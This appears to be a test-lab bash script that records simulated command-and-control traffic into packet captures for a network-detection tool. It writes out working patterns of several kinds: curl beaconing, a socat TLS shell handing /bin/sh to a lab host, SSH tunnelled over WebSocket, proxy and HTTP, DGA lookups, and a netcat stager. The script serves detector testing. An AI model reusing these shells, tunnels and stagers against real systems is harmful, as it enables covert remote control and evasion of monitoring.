#!/bin/bash
# SPDX-License-Identifier: MIT
# channels.sh SCENARIO...|all|list: channels of command and tunnels by packaged programs, between the namespaces of ns.sh,
# recorded at the gateway into tests/replay/<scenario>/input.pcap.
#
# Needs root and (Debian names): tcpdump ethtool iproute2 curl openssl socat ncat netcat-openbsd bind9-dnsutils dnsmasq-base
# openssh-server openssh-client proxytunnel tinyproxy httptunnel nodejs npm (which gets wstunnel, of the npm registry).
set -eu
export XFL_PREFIX=${XFL_PREFIX:-chn}
all=(beacon_curl http_checkins_curl tls_shell_socat wstunnel_ssh proxytunnel_ssh httptunnel_ssh dga_dig raw_agent_nc program_pushed_nc
    held_ncat infection_tools intel_curl)
# shellcheck source=tests/lab/lab.sh
. "$(dirname "$0")/lab.sh"
out=203.0.113.20
browser='Mozilla/5.0 (Windows NT 10.0; Win64; x64)'

prepare() {
    mkdir -p "$dir"/{www,me} /run/sshd
    ssh-keygen -q -t ed25519 -N '' -f "$dir/hostkey"
    ssh-keygen -q -t ed25519 -N '' -f "$dir/key"
    cp "$dir/key.pub" "$dir/authorized"
    openssl req -x509 -newkey rsa:2048 -nodes -days 3650 -subj '/CN=server' -keyout "$dir/tls.key" -out "$dir/tls.crt" 2>/dev/null
    cat "$dir/tls.key" "$dir/tls.crt" >"$dir/tls.pem"
    head -c 6000 /bin/true >"$dir/www/update.jpg"
    echo '{"ip":"198.51.100.7"}' >"$dir/www/ip"
    cat >"$dir/sshd.conf" <<CONF
ListenAddress $out:22
HostKey $dir/hostkey
UsePAM no
PidFile none
StrictModes no
AuthorizedKeysFile $dir/authorized
CONF
    bg sshd "${srv[@]}" /usr/sbin/sshd -D -e -f "$dir/sshd.conf"
    bg tls "${srv[@]}" openssl s_server -quiet -accept 203.0.113.22:443 -cert "$dir/tls.crt" -key "$dir/tls.key" -WWW
    bg web "${srv[@]}" python3 -m http.server -b 203.0.113.21 -d "$dir/www" 80
    bg gate "${srv[@]}" /usr/bin/python3 "$here/gate.py" 203.0.113.23
    sleep 1
}

ssh_to() { # ssh options... : one command at the far end
    "${cli[@]}" timeout 15 ssh -o StrictHostKeyChecking=no -o UserKnownHostsFile=/dev/null -o LogLevel=ERROR -i "$dir/key" "$@" \
        "id; uname -a; ls -l /usr/bin | head -40" || true
}

# ---- scenarios ----

beacon_curl() { # a program that asks a bare address for orders, again and again
    for _ in $(seq 16); do
        "${cli[@]}" curl -s -k -m 3 -o /dev/null https://203.0.113.22/tls.key || true
        sleep 1
    done
}
finish_beacon_curl() { longer "$1" 4800; }

http_checkins_curl() { # the own address asked for, then one form posted again and again
    "${cli[@]}" curl -s -m 3 -A "$browser" --resolve api.ipify.org:80:203.0.113.21 http://api.ipify.org/ip
    for _ in $(seq 10); do
        "${cli[@]}" curl -s -m 3 -A "$browser" --resolve ledgerhall.example:80:203.0.113.23 -d 'id=7c1f&os=10&st=0' \
            http://ledgerhall.example/tasks.php || true
        sleep 1
    done
}
finish_http_checkins_curl() { longer "$1" 1200; }

tls_shell_socat() { # a shell inside TLS, with a certificate of its own making, to a port of its own
    bg socat "${srv[@]}" socat -u "OPENSSL-LISTEN:6606,bind=203.0.113.24,fork,cert=$dir/tls.pem,verify=0,openssl-max-proto-version=TLS1.2" \
        "SYSTEM:for c in id whoami uname pwd ls date w df; do echo \$c; sleep 1; done",pty
    sleep 0.5
    "${cli[@]}" timeout 14 socat "OPENSSL:203.0.113.24:6606,verify=0,openssl-max-proto-version=TLS1.2" EXEC:/bin/sh || true
}

wstunnel_ssh() { # SSH inside a WebSocket, without TLS
    npm install --silent --no-fund --no-audit --prefix "$dir/npm" wstunnel@1.4.0
    bg wstunneld "${srv[@]}" node "$dir/npm/node_modules/wstunnel/bin/wstt.js" -s 203.0.113.24:8080
    sleep 1.5
    bg wstunnel "${cli[@]}" node "$dir/npm/node_modules/wstunnel/bin/wstt.js" -t "9000:$out:22" ws://203.0.113.24:8080
    sleep 2
    ssh_to -p 9000 root@127.0.0.1
}

proxytunnel_ssh() { # SSH through a proxy for the web
    printf 'Port 3128\nListen 203.0.113.25\nTimeout 30\nAllow 0.0.0.0/0\nConnectPort 22\nUser root\n' >"$dir/tinyproxy.conf"
    bg tinyproxy "${srv[@]}" tinyproxy -d -c "$dir/tinyproxy.conf"
    sleep 1
    ssh_to -o "ProxyCommand=proxytunnel -q -p 203.0.113.25:3128 -d $out:22" root@$out
}

httptunnel_ssh() { # SSH inside requests and answers of HTTP
    bg hts "${srv[@]}" hts -w -F $out:22 8888
    sleep 0.7
    bg htc "${cli[@]}" htc -w -F 9001 $out:8888
    sleep 0.7
    ssh_to -p 9001 root@127.0.0.1
}

dga_dig() { # names that a formula makes; the last one exists
    local i name
    bg dnsmasq "${gw[@]}" dnsmasq -k -C /dev/null --no-resolv --no-hosts -x "$dir/dnsmasq.pid" --user=root --interface=gin \
        --bind-interfaces --local=/info/ --host-record=qkxzvwtrhp.info,203.0.113.24
    sleep 0.5
    for i in $(seq 40); do
        name=$(echo "20261129-$i" | md5sum | cut -c1-14 | tr '0-9a-f' 'qxzkvwjhpytrnbgm')
        "${cli[@]}" dig +tries=1 +time=1 @10.20.1.1 "$name.info" >/dev/null || true
    done
    "${cli[@]}" dig +tries=1 +time=1 @10.20.1.1 qkxzvwtrhp.info >/dev/null || true
}
finish_dga_dig() { longer "$1" 180; }

raw_agent_nc() { # a program fetched from a bare address, then a conversation in bytes that nothing knows
    "${cli[@]}" curl -s -m 3 -o "$dir/me/u" http://203.0.113.21/update.jpg
    { sealed 12 40 | "${srv[@]}" timeout 16 nc -n -l 203.0.113.21 7010 >/dev/null; } &
    sleep 0.5
    { sealed 12 90 | "${cli[@]}" timeout 15 nc -n 203.0.113.21 7010 >/dev/null; } || true
    wait $! || true
}
finish_raw_agent_nc() { longer "$1" 900 0.1; }

sealed() { # times bytes: encrypted words, one a second
    local i
    for ((i = 0; i < $1; i++)); do
        head -c "$2" /dev/zero | openssl enc -aes-256-ctr -nosalt -pbkdf2 -k "word $i $2" 2>/dev/null
        sleep 1
    done
}

program_pushed_nc() { # a stager's way: the length in four bytes, then the program; and a program alone, inside
    local size
    size=$(stat -c %s /bin/true)
    { { printf '%08x' "$size" | sed 's/\(..\)\(..\)\(..\)\(..\)/\4\3\2\1/' | xxd -r -p
        sleep 0.3
        cat /bin/true
        sleep 1; } | "${srv[@]}" timeout 8 nc -n -l 203.0.113.25 4444 >/dev/null; } &
    sleep 0.5
    "${cli[@]}" timeout 5 nc -n 203.0.113.25 4444 >"$dir/me/stage" </dev/null || true
    wait $! || true
}

held_ncat() { # a connection that is held, and used now and then
    bg ncat "${srv[@]}" ncat -n -l 203.0.113.24 7443 --sh-exec "while read x; do head -c 40 /dev/urandom; done"
    sleep 0.5
    { for _ in $(seq 60); do
        head -c 24 /dev/urandom | base64
        sleep 0.2
    done | "${cli[@]}" timeout 20 ncat -n 203.0.113.24 7443 >/dev/null; } || true
}
finish_held_ncat() { longer "$1" 14800 0.1; }

infection_tools() { # what a loader does in its first hour
    "${cli[@]}" curl -s -m 3 --resolve api.ipify.org:80:203.0.113.21 http://api.ipify.org/ip
    "${cli[@]}" wget -q -T 3 -O "$dir/me/u" http://203.0.113.21/update.jpg
    for _ in 1 2 3; do
        "${cli[@]}" curl -s -m 3 -A "$browser" -d 'id=7c1f&os=10' http://203.0.113.23/tasks.php || true
        "${cli[@]}" timeout 2 openssl s_client -quiet -tls1_2 -connect 203.0.113.22:443 </dev/null || true
        sleep 1
    done
}
finish_infection_tools() { longer "$1" 1500; }

intel_curl() { # a name, an address and a page of a feed (see the scenario's feed.txt)
    bg dnsmasq "${gw[@]}" dnsmasq -k -C /dev/null --no-resolv --no-hosts -x "$dir/dnsmasq.pid" --user=root --interface=gin \
        --bind-interfaces --host-record=bad.example.net,203.0.113.21 --host-record=good.example.net,203.0.113.23
    sleep 0.5
    "${cli[@]}" curl -s -m 3 -o /dev/null http://bad.example.net/ip || true
    "${cli[@]}" curl -s -k -m 3 -o /dev/null https://203.0.113.22/tls.crt || true
    "${cli[@]}" curl -s -m 3 -o /dev/null http://good.example.net/ || true
}

run_lab "$@"
